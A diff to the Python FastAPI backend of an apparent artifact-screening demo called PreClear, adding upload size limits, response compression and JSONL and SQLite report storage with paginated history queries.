@@ -1,58 +1,2837 @@
 from fastapi.staticfiles import StaticFiles
-from fastapi import FastAPI, UploadFile, File
-from fastapi.responses import HTMLResponse
+from fastapi import FastAPI, UploadFile, File, Form, Request
+from fastapi.responses import HTMLResponse, RedirectResponse, Response, StreamingResponse
+from starlette.concurrency import run_in_threadpool
+from bisect import bisect_left
+from collections import OrderedDict, deque
+from concurrent.futures import ProcessPoolExecutor, ThreadPoolExecutor
+from concurrent.futures.process import BrokenProcessPool
+from contextlib import contextmanager
 from datetime import datetime
+from email.utils import formatdate, parsedate_to_datetime
+from urllib.parse import urlencode
+import asyncio
+import fcntl
+import hashlib
+import gzip
+import json
+import logging
+import lzma
+import mmap
+import multiprocessing
+import os
+import queue
+import re
+import sqlite3
+import struct
+import tarfile
+import tempfile
+import threading
+import time
 import uuid
+import zipfile
+import zlib
 import random
 import html
+import io
+
+import numpy as np
+
+try:
+    import orjson
+except ImportError:  # optional; the stdlib encoder is used instead
+    orjson = None
+
+try:
+    import brotli
+except ImportError:  # optional; responses fall back to gzip
+    brotli = None
+
+log = logging.getLogger("preclear")
+
 CLOUD_DEMO_URL = "https://preclear-demo.onrender.com/"
 
-app = FastAPI(title="PreClear Investor Demo")
+# Uploads are consumed in fixed-size chunks so peak memory per request does not
+# grow with the artifact; anything above MAX_ARTIFACT_BYTES is rejected with 413.
+CHUNK_SIZE = int(os.environ.get("PRECLEAR_CHUNK_SIZE", 1024 * 1024))
+MAX_ARTIFACT_BYTES = int(os.environ.get("PRECLEAR_MAX_ARTIFACT_BYTES", 512 * 1024 * 1024))
+SPOOL_MEMORY_BYTES = 1024 * 1024  # matches Starlette's UploadFile spool threshold
+
+
+class ArtifactTooLarge(Exception):
+    pass
+
+
+class UploadLimitMiddleware:
+    """Reject request bodies above MAX_ARTIFACT_BYTES before they are spooled."""
+
+    def __init__(self, app, max_bytes: int):
+        self.app = app
+        self.max_bytes = max_bytes
+
+    async def __call__(self, scope, receive, send):
+        if scope["type"] != "http" or scope["method"] != "POST":
+            return await self.app(scope, receive, send)
+
+        for name, value in scope["headers"]:
+            if name == b"content-length":
+                try:
+                    length = int(value)
+                except ValueError:
+                    length = -1
+                if length < 0:
+                    response = FastJSONResponse({"detail": "Invalid Content-Length header."}, status_code=400)
+                    return await response(scope, receive, send)
+                if length > self.max_bytes + 64 * 1024:
+                    return await self._reject(scope, send)
+
+        received = 0
+        exceeded = False
+
+        async def limited_receive():
+            nonlocal received, exceeded
+            message = await receive()
+            if message["type"] == "http.request":
+                received += len(message.get("body", b""))
+                # Multipart framing adds a little overhead on top of the artifact itself.
+                if received > self.max_bytes + 64 * 1024:
+                    exceeded = True
+                    raise ArtifactTooLarge(received)
+            return message
+
+        async def guarded_send(message):
+            # Body parsing errors get re-raised by FastAPI as a generic 400; swallow
+            # whatever the app produces once the limit tripped and answer 413 instead.
+            if not exceeded:
+                await send(message)
+
+        try:
+            await self.app(scope, limited_receive, guarded_send)
+        except Exception:
+            if not exceeded:
+                raise
+        if exceeded:
+            await self._reject(scope, send)
+
+    async def _reject(self, scope, send):
+        response = artifact_too_large_response(api=scope["path"].startswith("/api/"))
+        await send({
+            "type": "http.response.start",
+            "status": response.status_code,
+            "headers": response.raw_headers,
+        })
+        await send({"type": "http.response.body", "body": response.body})
+
+
+COMPRESS_MIN_BYTES = int(os.environ.get("PRECLEAR_COMPRESS_MIN_BYTES", 1024))
+GZIP_LEVEL = 6
+BROTLI_QUALITY = 5
+# Already compressed, or must not be buffered/framed by an encoder.
+UNCOMPRESSIBLE_TYPES = ("image/", "application/zip", "application/gzip", "text/event-stream")
+
+
+def choose_encoding(accept_encoding: str) -> str | None:
+    accepted = {}
+    for item in accept_encoding.split(","):
+        coding, _, params = item.strip().partition(";")
+        q = 1.0
+        if params.strip().startswith("q="):
+            try:
+                q = float(params.strip()[2:])
+            except ValueError:
+                q = 0.0
+        accepted[coding.strip().lower()] = q
+    for coding in (("br", "gzip") if brotli is not None else ("gzip",)):
+        if accepted.get(coding, accepted.get("*", 0.0)) > 0:
+            return coding
+    return None
+
+
+class BodyEncoder:
+    """Incremental gzip/brotli encoder; ``flush`` emits everything fed so far."""
+
+    def __init__(self, encoding: str):
+        self.encoding = encoding
+        if encoding == "br":
+            self._c = brotli.Compressor(quality=BROTLI_QUALITY)
+        else:
+            self._c = zlib.compressobj(GZIP_LEVEL, zlib.DEFLATED, 31)
+
+    def compress(self, data: bytes, flush: bool = False) -> bytes:
+        if self.encoding == "br":
+            out = self._c.process(data)
+            return out + self._c.flush() if flush else out
+        out = self._c.compress(data)
+        return out + self._c.flush(zlib.Z_SYNC_FLUSH) if flush else out
+
+    def finish(self) -> bytes:
+        return self._c.finish() if self.encoding == "br" else self._c.flush()
+
+
+def compress_body(body: bytes, encoding: str) -> bytes:
+    encoder = BodyEncoder(encoding)
+    return encoder.compress(body) + encoder.finish()
+
+
+class CompressionMiddleware:
+    """gzip/brotli for responses of at least ``minimum_size`` bytes.
+
+    Like Starlette's GZipMiddleware, responses that already carry a
+    Content-Encoding (pre-compressed report pages) pass through untouched.
+    Streamed bodies are flushed chunk by chunk so pages still render
+    progressively.
+    """
+
+    def __init__(self, app, minimum_size: int):
+        self.app = app
+        self.minimum_size = minimum_size
+
+    async def __call__(self, scope, receive, send):
+        if scope["type"] != "http":
+            return await self.app(scope, receive, send)
+        accept = ""
+        for name, value in scope["headers"]:
+            if name == b"accept-encoding":
+                accept = value.decode("latin-1")
+        encoding = choose_encoding(accept) if accept else None
+        if encoding is None:
+            return await self.app(scope, receive, send)
+
+        start = None
+        encoder = None
+        passthrough = False
+
+        async def compressing_send(message):
+            nonlocal start, encoder, passthrough
+            if message["type"] == "http.response.start":
+                headers = {k.lower(): v for k, v in message.get("headers", [])}
+                content_type = headers.get(b"content-type", b"").decode("latin-1")
+                passthrough = (
+                    message["status"] in (204, 304)
+                    or b"content-encoding" in headers
+                    or content_type.startswith(UNCOMPRESSIBLE_TYPES)
+                )
+                if passthrough:
+                    await send(message)
+                else:
+                    start = message
+                return
+            if passthrough or message["type"] != "http.response.body":
+                return await send(message)
+
+            body = message.get("body", b"")
+            more_body = message.get("more_body", False)
+            if encoder is None:
+                if not more_body and len(body) < self.minimum_size:
+                    passthrough = True
+                    await send(start)
+                    return await send(message)
+                encoder = BodyEncoder(encoding)
+                headers = [
+                    (k, v) for k, v in start.get("headers", [])
+                    if k.lower() not in (b"content-length", b"vary")
+                ]
+                headers += [(b"content-encoding", encoding.encode()), (b"vary", b"Accept-Encoding")]
+                if not more_body:
+                    body = encoder.compress(body) + encoder.finish()
+                    headers.append((b"content-length", str(len(body)).encode()))
+                    await send({**start, "headers": headers})
+                    return await send({"type": "http.response.body", "body": body})
+                await send({**start, "headers": headers})
+            chunk = encoder.compress(body, flush=True) if more_body else encoder.compress(body) + encoder.finish()
+            await send({"type": "http.response.body", "body": chunk, "more_body": more_body})
+
+        await self.app(scope, receive, compressing_send)
+
+
+app = FastAPI(title="PreClear Investor Demo")
+app.add_middleware(UploadLimitMiddleware, max_bytes=MAX_ARTIFACT_BYTES)
+app.add_middleware(CompressionMiddleware, minimum_size=COMPRESS_MIN_BYTES)
+
+MAX_REPORTS = int(os.environ.get("PRECLEAR_MAX_REPORTS", 20000))
+MAX_REPORT_BYTES = int(os.environ.get("PRECLEAR_MAX_REPORT_BYTES", 256 * 1024 * 1024))
+
+
+class ReportStore:
+    """Bounded report history with O(1) insert, eviction and lookup.
+
+    Reports are evicted oldest-first once either the count or the approximate
+    byte budget is exceeded. All mutation happens under one lock so concurrent
+    /analyze calls cannot interleave the trim loop.
+    """
+
+    def __init__(self, max_reports: int, max_bytes: int):
+        self.max_reports = max_reports
+        self.max_bytes = max_bytes
+        self._reports: dict[str, tuple[int, dict]] = {}  # report_id -> (size, report)
+        self._order: deque[str] = deque()  # oldest on the left
+        self._first_seq = 0  # sequence number of self._order[0]
+        self._lock = threading.Lock()
+        self.bytes = 0
+        self.evictions = 0
+
+    def put(self, report: dict) -> str:
+        report_id = report["report_id"]
+        size = approx_size(report)
+        with self._lock:
+            if report_id in self._reports:
+                # Replace in place; moving it would break the contiguous sequence numbers.
+                self.bytes += size - self._reports[report_id][0]
+                self._reports[report_id] = (size, report)
+                return report_id
+            self._reports[report_id] = (size, report)
+            self._order.append(report_id)
+            self.bytes += size
+            while len(self._order) > self.max_reports or (self.bytes > self.max_bytes and len(self._order) > 1):
+                old_size, _ = self._reports.pop(self._order.popleft())
+                self._first_seq += 1
+                self.bytes -= old_size
+                self.evictions += 1
+        return report_id
+
+    def get(self, report_id: str) -> dict | None:
+        entry = self._reports.get(report_id)
+        return entry[1] if entry else None
+
+    def scan(self, before: int | None, filters: dict, limit: int):
+        """Yield reports newest-first, starting below sequence number ``before``."""
+        seq = None if before is None else before - 1
+        while True:
+            with self._lock:
+                # Snapshot a small batch under the lock; the consumer may be a slow stream.
+                end = len(self._order) if seq is None else max(0, min(len(self._order), seq + 1 - self._first_seq))
+                start = max(0, end - 256)
+                batch = [
+                    {**self._reports[self._order[i]][1], "seq": self._first_seq + i}
+                    for i in range(end - 1, start - 1, -1)
+                ]
+            if not batch:
+                return
+            yield from batch
+            seq = batch[-1]["seq"] - 1
+
+    def __len__(self) -> int:
+        return len(self._order)
+
+    def stats(self) -> dict:
+        return {
+            "reports": len(self._order),
+            "bytes": self.bytes,
+            "evictions": self.evictions,
+            "max_reports": self.max_reports,
+            "max_bytes": self.max_bytes,
+        }
+
+
+REPORT_STORE = ReportStore(MAX_REPORTS, MAX_REPORT_BYTES)
+HISTORY_PAGE_SIZE = 50
+
+
+DATA_DIR = os.environ.get("PRECLEAR_DATA_DIR", "data")
+# Worker processes serving this app (uvicorn/gunicorn --workers read the same
+# variable). With more than one, every report read and write goes through the
+# shared backend in DATA_DIR and REPORT_STORE is only a per-process cache.
+WORKERS = int(os.environ.get("WEB_CONCURRENCY", 1))
+SHARED_STORAGE = WORKERS > 1
+STORAGE_BACKEND = os.environ.get("PRECLEAR_STORAGE", "sqlite" if SHARED_STORAGE else "jsonl")  # jsonl | sqlite | memory
+REPORT_LOG_RETENTION = int(os.environ.get("PRECLEAR_REPORT_LOG_RETENTION", 100000))
+
+
+class ReportLog:
+    """Append-only JSONL report log with a memory-mapped offset index.
+
+    ``reports.jsonl`` holds one report per line; ``reports.idx`` holds one
+    fixed-width (report_id, offset, length) record per line, in the same order.
+    Startup maps the index instead of parsing the log, and a lookup is a single
+    positioned read. Once the log holds more than ``retention`` reports plus
+    some slack it is compacted in a background thread down to the newest
+    ``retention``.
+
+    With ``shared`` set, several processes may use the same directory: appends
+    and compaction hold an flock on ``reports.lock``, and a lookup that misses
+    first picks up index records other processes have appended since.
+    """
+
+    RECORD = struct.Struct("<16sQI4x")
+
+    def __init__(self, directory: str, retention: int, shared: bool = False):
+        self.directory = directory
+        self.retention = retention
+        self.shared = shared
+        self.log_path = os.path.join(directory, "reports.jsonl")
+        self.index_path = os.path.join(directory, "reports.idx")
+        # Reports dropped by compaction so far; sequence numbers start above them.
+        self.base_path = os.path.join(directory, "reports.base")
+        self._lock = threading.Lock()
+        self._opened = False
+        self._compacting = False
+        self._base_seq = 0
+        self._flock_depth = 0
+        self.compactions = 0
+        self.refreshes = 0
+
+    def _ensure_open(self) -> None:
+        if self._opened:
+            return
+        with self._lock:
+            if not self._opened:
+                os.makedirs(self.directory, exist_ok=True)
+                self._lock_file = open(os.path.join(self.directory, "reports.lock"), "ab")
+                with self._file_lock():
+                    self._open_files()
+                self._opened = True
+
+    @contextmanager
+    def _file_lock(self, mode: int = fcntl.LOCK_EX):
+        """Cross-process lock around log and index changes; a no-op unless shared.
+
+        Only taken with ``_lock`` held, and re-entrant: a nested call keeps the
+        outer lock (flock would otherwise convert, then drop, it).
+        """
+        if not self.shared or self._flock_depth:
+            self._flock_depth += 1
+            try:
+                yield
+            finally:
+                self._flock_depth -= 1
+            return
+        fcntl.flock(self._lock_file.fileno(), mode)
+        self._flock_depth = 1
+        try:
+            yield
+        finally:
+            self._flock_depth = 0
+            fcntl.flock(self._lock_file.fileno(), fcntl.LOCK_UN)
+
+    def _open_files(self) -> None:
+        self._log = open(self.log_path, "ab+")
+        self._index_file = open(self.index_path, "ab+")
+        self._offsets: dict[str, tuple[int, int]] = {}
+        self._ids: list[str] = []  # append order; position doubles as a sequence number
+        try:
+            with open(self.base_path) as f:
+                self._base_seq = int(f.read() or 0)
+        except FileNotFoundError:
+            self._base_seq = 0
+        self._load_index()
+        self._recover_tail()
+
+    def _refresh(self) -> None:
+        """Pick up records appended, or a compaction done, by another process.
+
+        Called with ``_lock`` held. Index records are written whole under the
+        file lock, so anything short of a full record is simply not read yet.
+        """
+        if os.stat(self.index_path).st_ino != os.fstat(self._index_file.fileno()).st_ino:
+            self._log.close()
+            self._index_file.close()
+            with self._file_lock():
+                self._open_files()
+            self.refreshes += 1
+            return
+        known = len(self._ids) * self.RECORD.size
+        size = os.fstat(self._index_file.fileno()).st_size
+        if size - known < self.RECORD.size:
+            return
+        data = os.pread(self._index_file.fileno(), size - known, known)
+        for raw_id, offset, length in self.RECORD.iter_unpack(data[:len(data) - len(data) % self.RECORD.size]):
+            report_id = raw_id.rstrip(b"\0").decode()
+            self._offsets[report_id] = (offset, length)
+            self._ids.append(report_id)
+        self.refreshes += 1
+
+    def _load_index(self) -> None:
+        size = os.fstat(self._index_file.fileno()).st_size
+        whole = size - size % self.RECORD.size
+        if whole != size:
+            # A crash mid-append can leave a partial record behind.
+            self._index_file.truncate(whole)
+        if not whole:
+            return
+        with mmap.mmap(self._index_file.fileno(), whole, access=mmap.ACCESS_READ) as mm:
+            for raw_id, offset, length in self.RECORD.iter_unpack(mm):
+                report_id = raw_id.rstrip(b"\0").decode()
+                self._offsets[report_id] = (offset, length)
+                self._ids.append(report_id)
+
+    def _recover_tail(self) -> None:
+        # Re-index lines written to the log after the last index record.
+        end = 0
+        if self._ids:
+            offset, length = self._offsets[self._ids[-1]]
+            end = offset + length
+        log_size = os.fstat(self._log.fileno()).st_size
+        if end >= log_size:
+            return
+        with open(self.log_path, "rb") as f:
+            f.seek(end)
+            for line in f:
+                if not line.endswith(b"\n"):
+                    self._log.truncate(end)
+                    break
+                self._append_index(json.loads(line)["report_id"], end, len(line))
+                end += len(line)
+        self._index_file.flush()
+
+    def _append_index(self, report_id: str, offset: int, length: int) -> None:
+        self._index_file.write(self.RECORD.pack(report_id.encode(), offset, length))
+        self._offsets[report_id] = (offset, length)
+        self._ids.append(report_id)
+
+    def append(self, report: dict) -> None:
+        self._ensure_open()
+        line = dump_json(report) + b"\n"
+        with self._lock, self._file_lock():
+            if self.shared:
+                self._refresh()
+            offset = self._log.seek(0, os.SEEK_END)
+            self._log.write(line)
+            self._log.flush()
+            self._append_index(report["report_id"], offset, len(line))
+            self._index_file.flush()
+            compact = not self._compacting and len(self._ids) > self.retention + max(1000, self.retention // 10)
+            if compact:
+                self._compacting = True
+        if compact:
+            threading.Thread(target=self.compact, name="report-log-compaction", daemon=True).start()
+
+    def get(self, report_id: str) -> dict | None:
+        raw = self.get_raw(report_id)
+        return json.loads(raw) if raw is not None else None
+
+    def get_raw(self, report_id: str) -> bytes | None:
+        """The report's stored JSON, without decoding it."""
+        self._ensure_open()
+        with self._lock:
+            entry = self._offsets.get(report_id)
+            if entry is None and self.shared:
+                self._refresh()
+                entry = self._offsets.get(report_id)
+            if entry is None:
+                return None
+            return os.pread(self._log.fileno(), entry[1] - 1, entry[0])
+
+    def scan(self, before: int | None, filters: dict, limit: int):
+        """Yield reports newest-first, starting below sequence number ``before``."""
+        self._ensure_open()
+        seq = None if before is None else before - 1
+        while True:
+            with self._lock:
+                if self.shared:
+                    self._refresh()
+                end = len(self._ids) if seq is None else max(0, min(len(self._ids), seq + 1 - self._base_seq))
+                start = max(0, end - 256)
+                ids = self._ids[start:end][::-1]
+                base = self._base_seq
+            if not ids:
+                return
+            for i, report_id in enumerate(ids):
+                report = self.get(report_id)
+                if report is not None:
+                    yield {**report, "seq": base + end - 1 - i}
+            seq = base + start - 1
+
+    def __len__(self) -> int:
+        self._ensure_open()
+        if self.shared:
+            with self._lock:
+                self._refresh()
+        return len(self._ids)
+
+    def compact(self) -> None:
+        """Rewrite the log keeping only the newest ``retention`` reports."""
+        self._ensure_open()
+        if self.shared:
+            self._compact_shared()
+            return
+        self._compacting = True
+        try:
+            with self._lock:
+                snapshot = len(self._ids)
+                keep = self._ids[max(0, snapshot - self.retention):snapshot]
+            log_tmp = self.log_path + ".compact"
+            index_tmp = self.index_path + ".compact"
+            with open(log_tmp, "wb") as log_out, open(index_tmp, "wb") as index_out:
+                # The bulk copy runs without the lock; appends keep landing in the old log.
+                end = self._copy_records(keep, log_out, index_out, 0)
+                with self._lock:
+                    self._copy_records(self._ids[snapshot:], log_out, index_out, end)
+                    log_out.flush()
+                    index_out.flush()
+                    os.fsync(log_out.fileno())
+                    os.fsync(index_out.fileno())
+                    self._swap_in(log_tmp, index_tmp, snapshot - len(keep))
+            self.compactions += 1
+        finally:
+            self._compacting = False
+
+    def _compact_shared(self) -> None:
+        # Other processes append to the same files, so the whole rewrite holds
+        # the file lock. It runs rarely and only in the background thread.
+        self._compacting = True
+        try:
+            with self._lock, self._file_lock():
+                self._refresh()
+                if len(self._ids) <= self.retention:
+                    return  # another process compacted first
+                keep = self._ids[len(self._ids) - self.retention:]
+                log_tmp = self.log_path + ".compact"
+                index_tmp = self.index_path + ".compact"
+                with open(log_tmp, "wb") as log_out, open(index_tmp, "wb") as index_out:
+                    self._copy_records(keep, log_out, index_out, 0)
+                    log_out.flush()
+                    index_out.flush()
+                    os.fsync(log_out.fileno())
+                    os.fsync(index_out.fileno())
+                self._swap_in(log_tmp, index_tmp, len(self._ids) - len(keep))
+            self.compactions += 1
+        finally:
+            self._compacting = False
+
+    def _swap_in(self, log_tmp: str, index_tmp: str, dropped: int) -> None:
+        # Other processes notice the swap by the index inode and reopen under
+        # the file lock, so they read the new base together with the new files.
+        base_tmp = self.base_path + ".compact"
+        with open(base_tmp, "w") as f:
+            f.write(str(self._base_seq + dropped))
+        os.replace(base_tmp, self.base_path)
+        self._log.close()
+        self._index_file.close()
+        os.replace(log_tmp, self.log_path)
+        os.replace(index_tmp, self.index_path)
+        self._open_files()
+
+    def _copy_records(self, ids: list[str], log_out, index_out, offset: int) -> int:
+        fd = self._log.fileno()
+        for report_id in ids:
+            src_offset, length = self._offsets[report_id]
+            log_out.write(os.pread(fd, length, src_offset))
+            index_out.write(self.RECORD.pack(report_id.encode(), offset, length))
+            offset += length
+        return offset
+
+    def stats(self) -> dict:
+        self._ensure_open()
+        return {
+            "backend": "jsonl",
+            "reports": len(self._ids),
+            "log_bytes": os.fstat(self._log.fileno()).st_size,
+            "retention": self.retention,
+            "compactions": self.compactions,
+            "shared": self.shared,
+            "refreshes": self.refreshes,
+        }
+
+
+SQLITE_POOL_SIZE = int(os.environ.get("PRECLEAR_SQLITE_POOL_SIZE", 4))
+SQLITE_BATCH_SIZE = int(os.environ.get("PRECLEAR_SQLITE_BATCH_SIZE", 200))
+SQLITE_BATCH_INTERVAL = float(os.environ.get("PRECLEAR_SQLITE_BATCH_INTERVAL", 0.05))
+
+
+class SQLiteReportBackend:
+    """SQLite report storage with indexed history queries.
+
+    Writes from store_report are queued and flushed by a background thread in
+    batches (one transaction per batch); lookups check the queue first so a
+    report is readable as soon as it is stored. Reads use a small pool of WAL
+    connections, so they never wait behind the writer.
+
+    With ``shared`` set, other processes read the same database, so append
+    commits before returning (together with anything else pending) instead of
+    leaving the report in this process's queue. Only a database still locked
+    after the busy timeout leaves the commit to the writer thread.
+    """
+
+    SCHEMA = """
+CREATE TABLE IF NOT EXISTS reports (
+    seq INTEGER PRIMARY KEY AUTOINCREMENT,
+    report_id TEXT NOT NULL UNIQUE,
+    created_at TEXT NOT NULL,
+    filename TEXT NOT NULL,
+    verdict TEXT NOT NULL,
+    final_risk INTEGER NOT NULL,
+    sha256 TEXT,
+    body TEXT NOT NULL
+);
+CREATE INDEX IF NOT EXISTS reports_created_at ON reports (created_at, seq);
+CREATE INDEX IF NOT EXISTS reports_verdict ON reports (verdict, seq);
+CREATE INDEX IF NOT EXISTS reports_final_risk ON reports (final_risk, seq);
+CREATE INDEX IF NOT EXISTS reports_sha256 ON reports (sha256);
+"""
+    SUMMARY_COLUMNS = "seq, report_id, created_at, filename, verdict, final_risk, sha256"
+
+    def __init__(self, path: str, pool_size: int = SQLITE_POOL_SIZE, shared: bool = False):
+        self.path = path
+        self.pool_size = pool_size
+        self.shared = shared
+        self._pending: OrderedDict = OrderedDict()  # report_id -> report, not yet committed
+        self._pending_lock = threading.Lock()
+        self._write_lock = threading.Lock()
+        self._wakeup = threading.Event()
+        self._pool: queue.Queue = queue.Queue()
+        self._opened = False
+        self._open_lock = threading.Lock()
+        self._count = 0
+        self.batches = 0
+        self.failed_batches = 0
+
+    def _ensure_open(self) -> None:
+        if self._opened:
+            return
+        with self._open_lock:
+            if self._opened:
+                return
+            os.makedirs(os.path.dirname(self.path) or ".", exist_ok=True)
+            for _ in range(self.pool_size):
+                conn = sqlite3.connect(self.path, check_same_thread=False, isolation_level=None)
+                conn.execute("PRAGMA journal_mode=WAL")
+                conn.execute("PRAGMA synchronous=NORMAL")
+                conn.row_factory = sqlite3.Row
+                self._pool.put(conn)
+            with self._connection() as conn:
+                conn.executescript(self.SCHEMA)
+                self._count = conn.execute("SELECT count(*) FROM reports").fetchone()[0]
+            threading.Thread(target=self._writer, name="sqlite-report-writer", daemon=True).start()
+            self._opened = True
+
+    @contextmanager
+    def _connection(self):
+        conn = self._pool.get()
+        try:
+            yield conn
+        finally:
+            self._pool.put(conn)
+
+    def append(self, report: dict) -> None:
+        self._ensure_open()
+        with self._pending_lock:
+            if report["report_id"] not in self._pending:
+                # A re-store of a committed report is taken back off in flush().
+                self._count += 1
+            self._pending[report["report_id"]] = report
+            full = len(self._pending) >= SQLITE_BATCH_SIZE
+        if self.shared:
+            try:
+                self.flush()
+            except sqlite3.OperationalError:
+                # Still locked after the busy timeout: the writer thread retries,
+                # and this process serves the report from _pending meanwhile.
+                log.warning("sqlite report commit deferred for %s", report["report_id"], exc_info=True)
+                self._wakeup.set()
+        elif full:
+            self._wakeup.set()
+
+    def _writer(self) -> None:
+        while True:
+            self._wakeup.wait(SQLITE_BATCH_INTERVAL)
+            self._wakeup.clear()
+            try:
+                self.flush()
+            except Exception:  # the writer must outlive a failed batch
+                # The batch stays pending and is retried on the next wakeup.
+                self.failed_batches += 1
+                log.exception("sqlite report flush failed; %d reports pending", len(self._pending))
+
+    def flush(self) -> None:
+        with self._write_lock:
+            with self._pending_lock:
+                batch = list(self._pending.values())
+            if not batch:
+                return
+            rows = [
+                (
+                    r["report_id"], r["created_at"], r["filename"], r["verdict"], r["final_risk"],
+                    r.get("sha256"), dump_json(r).decode(),
+                )
+                for r in batch
+            ]
+            with self._connection() as conn:
+                conn.execute("BEGIN IMMEDIATE")
+                try:
+                    replaced = 0
+                    for start in range(0, len(rows), 500):  # stay under SQLite's bound-variable limit
+                        ids = [row[0] for row in rows[start:start + 500]]
+                        replaced += conn.execute(
+                            f"SELECT count(*) FROM reports WHERE report_id IN ({','.join('?' * len(ids))})", ids
+                        ).fetchone()[0]
+                    conn.executemany(
+                        "INSERT OR REPLACE INTO reports"
+                        " (report_id, created_at, filename, verdict, final_risk, sha256, body)"
+                        " VALUES (?, ?, ?, ?, ?, ?, ?)",
+                        rows,
+                    )
+                    conn.execute("COMMIT")
+                except BaseException:
+                    conn.execute("ROLLBACK")
+                    raise
+            with self._pending_lock:
+                for r in batch:
+                    if self._pending.get(r["report_id"]) is r:
+                        del self._pending[r["report_id"]]
+                self._count -= replaced
+            self.batches += 1
+
+    def get(self, report_id: str) -> dict | None:
+        self._ensure_open()
+        report = self._pending.get(report_id)
+        if report is not None:
+            return report
+        raw = self.get_raw(report_id)
+        return json.loads(raw) if raw is not None else None
+
+    def get_raw(self, report_id: str) -> bytes | None:
+        """The report's stored JSON, without decoding it."""
+        self._ensure_open()
+        report = self._pending.get(report_id)
+        if report is not None:
+            return dump_json(report)
+        with self._connection() as conn:
+            row = conn.execute("SELECT body FROM reports WHERE report_id = ?", (report_id,)).fetchone()
+        return row["body"].encode() if row else None
+
+    def scan(self, before: int | None, filters: dict, limit: int):
+        """Yield matching report summaries newest-first (keyset pagination on seq)."""
+        self._ensure_open()
+        self.flush()
+        clauses, params = [], []
+        if before is not None:
+            clauses.append("seq < ?")
+            params.append(before)
+        if "verdict" in filters:
+            clauses.append("verdict = ?")
+            params.append(filters["verdict"])
+        if "min_risk" in filters:
+            clauses.append("final_risk >= ?")
+            params.append(filters["min_risk"])
+        if "max_risk" in filters:
+            clauses.append("final_risk <= ?")
+            params.append(filters["max_risk"])
+        if "since" in filters:
+            clauses.append("created_at >= ?")
+            params.append(filters["since"])
+        if "until" in filters:
+            clauses.append("created_at <= ?")
+            params.append(filters["until"] + "~")
+        if "q" in filters:
+            clauses.append("filename LIKE ? ESCAPE '\\'")
+            params.append("%" + re.sub(r"([%_\\])", r"\\\1", filters["q"]) + "%")
+        sql = f"SELECT {self.SUMMARY_COLUMNS} FROM reports"
+        if clauses:
+            sql += " WHERE " + " AND ".join(clauses)
+        sql += " ORDER BY seq DESC LIMIT ?"
+        params.append(limit)
+        with self._connection() as conn:
+            for row in conn.execute(sql, params):
+                yield dict(row)
+
+    def __len__(self) -> int:
+        self._ensure_open()
+        if self.shared:
+            # Other workers insert too; the local counter only sees this process.
+            with self._connection() as conn:
+                return conn.execute("SELECT count(*) FROM reports").fetchone()[0]
+        return self._count
+
+    def stats(self) -> dict:
+        self._ensure_open()
+        return {
+            "backend": "sqlite",
+            "reports": len(self),
+            "pending": len(self._pending),
+            "batches": self.batches,
+            "failed_batches": self.failed_batches,
+            "shared": self.shared,
+        }
+
+
+def open_report_backend():
+    if STORAGE_BACKEND == "sqlite":
+        return SQLiteReportBackend(os.path.join(DATA_DIR, "reports.db"), shared=SHARED_STORAGE)
+    if STORAGE_BACKEND == "jsonl":
+        return ReportLog(DATA_DIR, REPORT_LOG_RETENTION, shared=SHARED_STORAGE)
+    if SHARED_STORAGE:
+        raise RuntimeError(f"PRECLEAR_STORAGE={STORAGE_BACKEND} cannot be shared by {WORKERS} workers; use sqlite or jsonl")
+    return None
+
+
+# Durable storage behind the in-memory REPORT_STORE; None keeps history in memory only.
+REPORT_BACKEND = open_report_backend()
+
+
+async def store_report(report: dict) -> str:
+    REPORT_STORE.put(report)
+    if REPORT_BACKEND is not None:
+        if SHARED_STORAGE:
+            # A shared backend commits before returning and may wait on another
+            # worker's write lock, so the append runs in the thread pool.
+            await run_in_threadpool(REPORT_BACKEND.append, report)
+        else:
+            REPORT_BACKEND.append(report)
+    VERDICT_COUNTS[report["verdict"]] = VERDICT_COUNTS.get(report["verdict"], 0) + 1
+    # Published once stored, so a subscriber can open /report/{id} straight away.
+    EVENTS.publish("verdict", {k: report.get(k) for k in EVENT_SUMMARY_FIELDS})
+    return report["report_id"]
+
+
+def load_report(report_id: str) -> dict | None:
+    report = REPORT_STORE.get(report_id)
+    if report is None and REPORT_BACKEND is not None:
+        report = REPORT_BACKEND.get(report_id)
+    return report
+
+
+HISTORY_MAX_LIMIT = 500
+HISTORY_SCAN_BUDGET = 5000  # reports examined per page before handing back a cursor
+VERDICTS = ("BLOCKED", "QUARANTINED", "CLEARED")
+
+
+def load_report_json(report_id: str) -> bytes | None:
+    # Serve the stored encoding directly where there is one; no decode/encode round trip.
+    if REPORT_BACKEND is not None:
+        raw = REPORT_BACKEND.get_raw(report_id)
+        if raw is not None:
+            return raw
+    report = REPORT_STORE.get(report_id)
+    return dump_json(report) if report is not None else None
+
+
+def report_matches(report: dict, filters: dict) -> bool:
+    if "verdict" in filters and report["verdict"] != filters["verdict"]:
+        return False
+    if "min_risk" in filters and report["final_risk"] < filters["min_risk"]:
+        return False
+    if "max_risk" in filters and report["final_risk"] > filters["max_risk"]:
+        return False
+    if "since" in filters and report["created_at"] < filters["since"]:
+        return False
+    # Date-only bounds are inclusive of the whole day.
+    if "until" in filters and report["created_at"] > filters["until"] + "~":
+        return False
+    if "q" in filters and filters["q"].lower() not in report["filename"].lower():
+        return False
+    return True
+
+
+class HistoryPage:
+    """One page of report history, produced lazily so it can be streamed.
+
+    ``next_cursor`` is only final once iteration has finished.
+    """
+
+    def __init__(self, before: int | None, limit: int, filters: dict):
+        self.before = before
+        self.limit = limit
+        self.filters = filters
+        self.next_cursor: int | None = None
+
+    def __iter__(self):
+        backend = REPORT_BACKEND if REPORT_BACKEND is not None else REPORT_STORE
+        returned = scanned = 0
+        last_seq = None
+        rows = backend.scan(self.before, self.filters, self.limit + 1)
+        try:
+            for row in rows:
+                scanned += 1
+                if report_matches(row, self.filters):
+                    if returned == self.limit:
+                        self.next_cursor = last_seq
+                        return
+                    returned += 1
+                    yield row
+                last_seq = row["seq"]
+                if scanned >= HISTORY_SCAN_BUDGET and returned < self.limit:
+                    # Sparse filter: hand back a cursor instead of walking the whole history.
+                    self.next_cursor = last_seq
+                    return
+        finally:
+            rows.close()
+
+
+def parse_history_filters(verdict, min_risk, max_risk, since, until, q) -> dict:
+    filters = {}
+    if verdict and verdict.upper() in VERDICTS:
+        filters["verdict"] = verdict.upper()
+    for key, value in (("min_risk", min_risk), ("max_risk", max_risk)):
+        if value not in (None, "") and str(value).strip().isdigit():
+            filters[key] = max(0, min(100, int(value)))
+    for key, value in (("since", since), ("until", until)):
+        if value:
+            filters[key] = value.strip().replace("T", " ")
+    if q and q.strip():
+        filters["q"] = q.strip()
+    return filters
+
+
+STATIC_DIR = "static"
